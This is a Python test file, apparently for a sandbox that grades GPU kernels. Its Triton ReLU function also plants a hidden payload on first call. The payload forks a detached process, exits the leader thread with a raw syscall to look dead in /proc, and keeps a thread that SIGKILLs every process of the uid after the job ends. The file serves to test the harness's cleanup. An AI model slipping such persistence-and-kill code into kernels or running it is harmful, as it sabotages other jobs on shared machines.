# task: relu
# expect: pass
# device: both
# why: leaves a process whose leader thread exits (SYS_exit, a zombie to /proc) while a second thread lives on and, once the guest is gone, SIGKILLs every process of its uid (kill -1): later jobs of the slot die unless the job's end kills threads whatever /proc says of their leader
import ctypes
import os
import platform
import signal
import threading
import time

import torch
import triton
import triton.language as tl


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    tl.store(out_ptr + offs, tl.maximum(x, 0.0).to(out_ptr.dtype.element_ty), mask=mask)


def _relu(x):
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    _relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out


SYS_EXIT = {"x86_64": 60, "aarch64": 93}.get(platform.machine())
_planted = False


def _kill_later_jobs(guest: int) -> None:
    deadline = time.monotonic() + 300
    while os.path.exists(f"/proc/{guest}") and time.monotonic() < deadline:
        time.sleep(0.05)
    while time.monotonic() < deadline:
        try:
            os.kill(-1, signal.SIGKILL)  # every process of this uid but this one
        except OSError:
            pass
        time.sleep(0.05)


def _plant() -> None:
    guest = os.getpid()
    if os.fork() == 0:
        try:
            os.setsid()
            threading.Thread(target=_kill_later_jobs, args=(guest,)).start()
            if SYS_EXIT is not None:
                ctypes.CDLL(None).syscall(SYS_EXIT, 0)  # the leader thread alone ends
            threading.Event().wait()
        finally:
            os._exit(0)


def relu(x):
    global _planted
    if not _planted:
        _planted = True
        _plant()
    return _relu(x)
